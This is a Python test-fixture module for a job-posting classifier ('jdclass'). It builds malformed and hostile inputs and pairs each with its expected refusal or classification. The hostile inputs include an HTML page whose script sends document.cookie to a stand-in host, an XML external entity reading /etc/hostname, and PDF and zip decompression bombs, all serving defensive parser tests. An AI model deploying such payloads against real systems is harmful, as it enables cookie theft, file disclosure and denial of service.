"""Hostile and broken inputs, built by the tests (no binary blobs in the repository): each with the outcome it must give.

An outcome is either ``Refused(error class, message)``, the one-line domain error, or ``Classified(flags)``, a result
that carries at least those flags. Messages name files relative to the working folder, as the CLI prints them.
"""

from __future__ import annotations

import io
import json
import math
import os
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from jdclass.errors import CorruptFile, EmptyInput, EncryptedFile, InputError, InputTooLarge, JdclassError, UnsupportedFormat
from jdclass.levels import Level
from jdclass.posting import Posting
from jdclass.readers import DEFAULT_MAX_BYTES, DEFAULT_MAX_CHARS, DOCX_MAX_INFLATED
from jdclass.result import Classification
from tests.fixtures import POSTING_LINES, make_docx, make_pdf

FLAGS = frozenset(["too_short", "not_english", "low_confidence", "between", "pm_role_unsure", "no_level_cue"])

ENGLISH = (
    "Senior Product Manager\n\nYou will own the roadmap for our payments platform and lead two engineering teams "
    "through discovery and delivery. You will mentor junior product managers and report to the Director of Product.\n\n"
    "Requirements\n- 5+ years of product management experience\n- Clear written communication with executive audiences\n"
)
GERMAN = (
    "Senior Produktmanager (m/w/d)\n\nSie verantworten die Roadmap unserer Zahlungsplattform und führen zwei Entwicklungsteams "
    "durch Discovery und Delivery. Sie berichten an die Leitung Produkt und begleiten jüngere Produktmanager.\n\n"
    "Anforderungen\n- Mindestens fünf Jahre Erfahrung im Produktmanagement\n- Sehr gute Kommunikation mit Geschäftsführung\n"
)
CHINESE = (
    "高级产品经理\n\n负责支付平台的产品路线图，带领两个研发团队完成需求探索与交付，指导初级产品经理，向产品总监汇报。\n要求：五年以上产品管理经验，良好的书面沟通能力。\n"
    * 4
)
JAPANESE = (
    "シニアプロダクトマネージャー\n\n決済プラットフォームのロードマップを担当し、二つの開発チームを率いていただきます。プロダクト責任者に報告します。\n" * 2
)
SCRIPT_PAYLOAD = "window.location='https://tracker.invalid/steal?c='+document.cookie"
HOSTILE_HTML = (
    "<!DOCTYPE html><html><head><title>Careers</title>"
    "<meta http-equiv='refresh' content='0;url=https://tracker.invalid/'>"
    "<link rel='stylesheet' href='https://tracker.invalid/style.css'>"
    f"<style>body {{ background: url('https://tracker.invalid/bg.png') }}</style><script>{SCRIPT_PAYLOAD}</script>"
    "<script src='https://tracker.invalid/tag.js'></script></head><body onload=\"fetch('https://tracker.invalid/')\">"
    "<iframe src='https://tracker.invalid/frame'></iframe><noscript><img src='https://tracker.invalid/noscript.gif'></noscript>"
    "<h1>Senior Product Manager</h1><p>Own the roadmap for our payments platform &amp; billing.</p>"
    "<ul><li>5+ years of product management experience</li><li>Mentor junior product managers</li></ul>"
    "<img src='https://tracker.invalid/pixel.gif' width='1' height='1'><object data='https://tracker.invalid/x.swf'></object>"
    "<embed src='https://tracker.invalid/y.swf'><p>Reports to the Director of Product.</p></body></html>"
)


@dataclass(frozen=True)
class Refused:
    """The input gives this domain error, with exactly this message."""

    error: type[JdclassError]
    message: str
    cli_hint: str = ""  # what `jdclass classify` and `jdclass parse` add to the message (the library and batch say it plain)


@dataclass(frozen=True)
class Classified:
    """The input is classified, and the result carries at least these flags."""

    flags: frozenset[str] = frozenset()


def classified(*flags: str) -> Classified:
    return Classified(frozenset(flags))


# --- PDF -----------------------------------------------------------------------------------------------------------


def pdf_document(contents: list[bytes], compress: bool = False) -> bytes:
    """A PDF with one page per content stream (Helvetica as F1), written object by object."""
    pages = len(contents)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    kids = []
    for content in contents:
        stream = zlib.compress(content, 9) if compress else content
        flate = b" /Filter /FlateDecode" if compress else b""
        objects.append(b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(stream), flate, stream))
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 3 0 R >> >> >>" % len(objects))
        kids.append(b"%d 0 R" % len(objects))
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), pages)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def text_page(line: str) -> bytes:
    return b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % line.encode("latin-1")


def encrypted_pdf(user_password: str) -> bytes:
    """The posting PDF encrypted with RC4 (pypdf opens RC4 without extra packages); an empty user password only restricts."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(POSTING_LINES))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_bomb() -> bytes:
    """30 KB on disk, 30 MB once inflated: past pypdf's stream limit as jdclass sets it."""
    return pdf_document([b"BT /F1 12 Tf 72 720 Td (Product Manager) Tj " + b" " * 30_000_000 + b"ET"], compress=True)


def pdf_many_operators(count: int) -> bytes:
    """A small file whose one page holds ``count`` text operators: slow to read in pure Python."""
    return pdf_document([b"BT /F1 12 Tf 72 720 Td " + b"(a) Tj " * count + b"ET"], compress=True)


# --- Word ----------------------------------------------------------------------------------------------------------


def docx_with(document_xml: bytes) -> bytes:
    """The posting Word file with ``word/document.xml`` replaced."""
    source = zipfile.ZipFile(io.BytesIO(make_docx(POSTING_LINES)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            archive.writestr(item.filename, document_xml if item.filename == "word/document.xml" else source.read(item.filename))
    return out.getvalue()


def docx_document_xml() -> bytes:
    return zipfile.ZipFile(io.BytesIO(make_docx(POSTING_LINES))).read("word/document.xml")


def docx_bomb() -> bytes:
    """A zip whose one member inflates from about 30 KB to just over jdclass's 25 MB ceiling."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (DOCX_MAX_INFLATED + 1))
    return out.getvalue()


def docx_deeply_nested() -> bytes:
    head = docx_document_xml().split(b"<w:body>", 1)[0]
    return docx_with(head + b"<w:body>" + b"<w:p>" * 5000 + b"</w:p>" * 5000 + b"</w:body></w:document>")


def docx_external_entity() -> bytes:
    """An XML external entity pointing at a local file: python-docx must not resolve it."""
    body = docx_document_xml().split(b"?>", 1)[1].replace(b"Senior Product Manager", b"Senior Product Manager &secret;")
    return docx_with(b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/hostname">]>' + body)


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def docx_encrypted() -> bytes:
    """What Word writes for a password-protected .docx: an OLE file holding an EncryptedPackage stream."""
    return OLE_MAGIC + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 1024


def old_word_doc() -> bytes:
    return OLE_MAGIC + b"\x00" * 504 + "WordDocument".encode("utf-16-le") + b"\x00" * 1024


# --- The table -----------------------------------------------------------------------------------------------------

Build = Callable[[Path], None]


def write(data: bytes | str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)

    return build


def lazily(make: Callable[[], bytes]) -> Build:
    def build(path: Path) -> None:
        path.write_bytes(make())

    return build


def directory(path: Path) -> None:
    path.mkdir()


def fifo(path: Path) -> None:
    os.mkfifo(path)


def symlink_to(target: str) -> Build:
    return lambda path: path.symlink_to(target)


def symlink_loop(path: Path) -> None:
    path.symlink_to(path.name)


UNREADABLE = "unreadable.txt"  # the test makes its os.open fail with EACCES: root reads any file, so chmod cannot


def unreadable(path: Path) -> None:
    path.write_text(ENGLISH, encoding="utf-8")
    path.chmod(0)


ON_THE_LADDER_PDF_PAGES = [text_page(f"Page {number}: the Senior Product Manager owns the roadmap.") for number in range(1, 61)]
OVER_THE_CHAR_LIMIT = "Own the roadmap. " * (DEFAULT_MAX_CHARS // 17 + 1)

# name -> (how to make it, the outcome through parse, classify, batch and the CLI)
FILES: dict[str, tuple[Build, Refused | Classified]] = {
    # Text: empty, tiny, large
    "empty.txt": (write(b""), Refused(EmptyInput, "empty.txt: no text in the file")),
    "whitespace.md": (write(b" \n\t\r\n  \x0c"), Refused(EmptyInput, "whitespace.md: no text in the file")),
    "one-word.txt": (write("Manager"), classified("too_short")),
    "one-letter.txt": (write("x"), classified("too_short")),
    "over-the-byte-limit.txt": (
        write(b"a" * (DEFAULT_MAX_BYTES + 1)),
        Refused(InputTooLarge, f"over-the-byte-limit.txt: {DEFAULT_MAX_BYTES + 1:,} bytes is over the {DEFAULT_MAX_BYTES:,}-byte limit"),
    ),
    "over-the-char-limit.txt": (
        write(OVER_THE_CHAR_LIMIT),
        Refused(
            InputTooLarge, f"over-the-char-limit.txt: the text has {len(OVER_THE_CHAR_LIMIT):,} characters, over the {DEFAULT_MAX_CHARS:,}-character limit"
        ),
    ),
    # Bytes that are not text, and encodings
    "binary.txt": (write(bytes(range(256)) * 8), Refused(CorruptFile, "binary.txt: binary data, not text")),
    "png-renamed.md": (write(b"\x89PNG\r\n\x1a\n" + bytes(2000)), Refused(CorruptFile, "png-renamed.md: binary data, not text")),
    "late-nul.txt": (write(ENGLISH.encode() * 80 + b"\x00"), Refused(CorruptFile, "late-nul.txt: binary data, not text (NUL or control characters)")),
    "invalid-utf8.txt": (write(ENGLISH.encode() + b"Caf\xe9 \x93quoted\x94 \x81\x8d"), classified()),
    "bad-utf8-after-bom.txt": (
        write(b"\xef\xbb\xbf" + ENGLISH.encode() + b"\xff\xfe\xfd"),
        Refused(CorruptFile, "bad-utf8-after-bom.txt: invalid utf-8-sig text"),
    ),
    "utf16-bom.txt": (write(ENGLISH.encode("utf-16")), classified()),
    "utf16-odd-length.txt": (write(ENGLISH.encode("utf-16") + b"\x00"), Refused(CorruptFile, "utf16-odd-length.txt: invalid utf-16 text")),
    "utf16-no-bom.txt": (write(ENGLISH.encode("utf-16-le")), Refused(CorruptFile, "utf16-no-bom.txt: binary data, not text")),
    "utf32-bom.txt": (write(ENGLISH.encode("utf-32")), classified()),
    "latin1-german.txt": (write(GERMAN.encode("latin-1", errors="replace")), classified("not_english")),
    "shift-jis.txt": (write(JAPANESE.encode("shift_jis")), classified("not_english")),
    # Not English
    "german.md": (write(GERMAN), classified("not_english")),
    "chinese.md": (write(CHINESE), classified("not_english")),
    # HTML
    "hostile.html": (write(HOSTILE_HTML), classified()),
    "deeply-nested.html": (write("<div>" * 100_000 + ENGLISH + "</div>" * 100_000), classified()),
    "only-scripts.html": (
        write("<html><head><script>var a = '<p>not text</p>';</script><style>p{}</style></head></html>"),
        Refused(EmptyInput, "only-scripts.html: no text in the file"),
    ),
    "unclosed-tags.html": (write("<p>" + "<a " * 200_000), Refused(EmptyInput, "unclosed-tags.html: no text in the file")),
    "unclosed-comment.htm": (write("<p><!--" + "<p>hidden</p>" * 50_000), Refused(EmptyInput, "unclosed-comment.htm: no text in the file")),
    "stray-brackets.html": (
        write("<p>" + "<" * 400_000),
        Refused(InputTooLarge, "stray-brackets.html: the text has 400,000 characters, over the 200,000-character limit"),
    ),
    # PDF
    "posting.pdf": (write(make_pdf(POSTING_LINES)), classified()),
    "corrupt.pdf": (write(b"%PDF-1.4\nnot really a pdf"), Refused(CorruptFile, "corrupt.pdf: not a readable PDF (PdfStreamError)")),
    "truncated.pdf": (lazily(lambda: make_pdf(POSTING_LINES)[:300]), Refused(CorruptFile, "truncated.pdf: not a readable PDF (PdfStreamError)")),
    "no-text-layer.pdf": (lazily(lambda: pdf_document([b"0 0 m 100 100 l S"])), Refused(EmptyInput, "no-text-layer.pdf: no text in the file")),
    "password.pdf": (lazily(lambda: encrypted_pdf("secret")), Refused(EncryptedFile, "password.pdf: the PDF is encrypted and needs a password")),
    "restricted.pdf": (lazily(lambda: encrypted_pdf("")), classified()),
    "bomb.pdf": (lazily(pdf_bomb), Refused(InputTooLarge, "bomb.pdf: the PDF is past the reading limits (it inflates or nests too far); refusing it")),
    "sixty-pages.pdf": (lazily(lambda: pdf_document(ON_THE_LADDER_PDF_PAGES)), classified()),
    # Word
    "posting.docx": (write(make_docx(POSTING_LINES)), classified()),
    "not-a-zip.docx": (write(b"PK\x03\x04 not a zip"), Refused(CorruptFile, "not-a-zip.docx: not a readable Word file (not a zip archive)")),
    "zip-not-word.docx": (lazily(lambda: zip_of({"hello.txt": b"hi"})), Refused(CorruptFile, "zip-not-word.docx: not a readable Word file (KeyError)")),
    "truncated.docx": (lazily(lambda: make_docx(POSTING_LINES)[:2000]), Refused(CorruptFile, "truncated.docx: not a readable Word file (not a zip archive)")),
    "bomb.docx": (lazily(docx_bomb), Refused(InputTooLarge, f"bomb.docx: the archive inflates to {DOCX_MAX_INFLATED + 1:,} bytes; refusing it")),
    "deeply-nested.docx": (lazily(docx_deeply_nested), Refused(CorruptFile, "deeply-nested.docx: not a readable Word file (XMLSyntaxError)")),
    "external-entity.docx": (lazily(docx_external_entity), classified()),
    "password.docx": (lazily(docx_encrypted), Refused(EncryptedFile, "password.docx: the Word file is encrypted and needs a password")),
    "old-word.docx": (lazily(old_word_doc), Refused(UnsupportedFormat, "old-word.docx: an old Word .doc file, not .docx; save it as .docx")),
    # Paths that are not files
    "folder.txt": (directory, Refused(InputError, "folder.txt: is a directory", "; to score a folder, run: jdclass batch folder.txt -o results.csv")),
    "pipe.txt": (fifo, Refused(InputError, "pipe.txt: is a named pipe, not a regular file")),
    "device.txt": (symlink_to(os.devnull), Refused(InputError, "device.txt: is a device, not a regular file")),
    UNREADABLE: (unreadable, Refused(InputError, f"{UNREADABLE}: cannot read (Permission denied)")),
    "dangling.txt": (symlink_to("nowhere.txt"), Refused(InputError, "dangling.txt: no such file")),
    "loop.txt": (symlink_loop, Refused(InputError, "loop.txt: cannot read (Too many levels of symbolic links)")),
    "sheet.xlsx": (
        write(b"PK"),
        Refused(UnsupportedFormat, "sheet.xlsx: unsupported file type '.xlsx'; supported: .txt, .md, .markdown, .text, .html, .htm, .xhtml, .pdf, .docx"),
    ),
    "README": (
        write(ENGLISH),
        Refused(UnsupportedFormat, "README: unsupported file type '(none)'; supported: .txt, .md, .markdown, .text, .html, .htm, .xhtml, .pdf, .docx"),
    ),
}


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


# Text handed to the library (and, as UTF-8 bytes, to the CLI on stdin): name -> (text, library outcome, stdin outcome)
TEXTS: dict[str, tuple[str, Refused | Classified, Refused | Classified]] = {
    "empty": ("", Refused(EmptyInput, "the posting is empty"), Refused(EmptyInput, "no text on stdin")),
    "whitespace": (" \n\t \u00a0\u2003\n", Refused(EmptyInput, "the posting is empty"), Refused(EmptyInput, "no text on stdin")),
    "one word": ("Manager", classified("too_short"), classified("too_short")),
    "one character": ("x", classified("too_short"), classified("too_short")),
    "emoji only": ("🚀" * 50, classified("too_short"), classified("too_short")),
    "over the limit": (
        OVER_THE_CHAR_LIMIT,
        Refused(InputTooLarge, f"the text has {len(OVER_THE_CHAR_LIMIT):,} characters, over the {DEFAULT_MAX_CHARS:,}-character limit"),
        Refused(InputTooLarge, f"the text has {len(OVER_THE_CHAR_LIMIT):,} characters, over the {DEFAULT_MAX_CHARS:,}-character limit"),
    ),
    "NUL byte": (
        ENGLISH + "\x00",
        Refused(CorruptFile, "binary data, not text (NUL or control characters)"),
        Refused(CorruptFile, "stdin: binary data, not text"),
    ),
    "control characters": (
        "\x01\x02\x03\x04 Product Manager",
        Refused(CorruptFile, "binary data, not text (NUL or control characters)"),
        Refused(CorruptFile, "stdin: binary data, not text"),
    ),
    "German": (GERMAN, classified("not_english"), classified("not_english")),
    "Chinese": (CHINESE, classified("not_english"), classified("not_english")),
    "right-to-left and combining marks": ("\u202eSenior Product Manager\u202c Z\u0351\u0352\u0353algo " + ENGLISH, classified(), classified()),
    "hostile HTML": (HOSTILE_HTML, classified(), classified()),
    "deeply nested HTML": ("<div>" * 100_000 + ENGLISH + "</div>" * 100_000, classified(), classified()),
    "HTML of scripts only": (
        "<html><script>alert(1)</script><style>p{}</style><p></p><div></div></html>",
        Refused(EmptyInput, "the posting is empty"),
        Refused(EmptyInput, "the posting is empty"),
    ),
    "unclosed tags": ("<p><div><ul>" + "<a " * 200_000, Refused(EmptyInput, "the posting is empty"), Refused(EmptyInput, "the posting is empty")),
}
# Unpaired surrogates cannot reach stdin (bytes are decoded there), so they are a library-only case.
LIBRARY_ONLY_TEXTS: dict[str, tuple[object, Refused]] = {
    "unpaired surrogate": (ENGLISH + "\ud800", Refused(CorruptFile, "invalid Unicode (unpaired surrogates)")),
    "bytes": (ENGLISH.encode(), Refused(InputError, "cannot parse a bytes; give text or a pathlib.Path")),
    "None": (None, Refused(InputError, "cannot parse a NoneType; give text or a pathlib.Path")),
}


def assert_well_formed_posting(posting: Posting) -> None:
    """Every span of a parsed posting lies inside its text, and the posting serializes to UTF-8 JSON."""
    text = posting.text
    assert text.strip() and "\x00" not in text
    spans = [item.span for item in (posting.title, posting.company, posting.employment_type, posting.location, posting.remote, posting.salary) if item]
    spans += [item.span for item in posting.years] + [item.span for item in posting.education]
    spans += [item.span for item in posting.mentions] + [item.span for item in posting.sections]
    if posting.self_reference:
        spans.append(posting.self_reference.span)
    for span in spans:
        assert 0 <= span.start <= span.end <= len(text), span
    json.dumps(posting.to_dict(), ensure_ascii=False).encode("utf-8")


def assert_well_formed(result: Classification) -> None:
    """A result whose shape a caller can rely on: a level on the ladder (or OTHER), every level's probability, summing
    to 1, evidence whose offsets point at its own sentence in the text, known flags, and UTF-8 JSON."""
    text = result.posting.text
    assert result.level in Level and result.content_level in Level
    for probabilities in (result.probabilities, result.content_probabilities):
        assert [level for level, _ in probabilities] == list(Level)
        assert all(0.0 <= p <= 1.0 for _, p in probabilities)
        assert math.isclose(sum(p for _, p in probabilities), 1.0, abs_tol=1e-9)
    assert 0.0 <= result.confidence <= 1.0
    for item in result.evidence:
        assert 0 <= item.start <= item.end <= len(text)
        assert text[item.start : item.end] == item.text
        assert item.level in Level
    assert set(result.flags) <= FLAGS
    assert_well_formed_posting(result.posting)
    json.dumps(result.to_dict(), ensure_ascii=False).encode("utf-8")
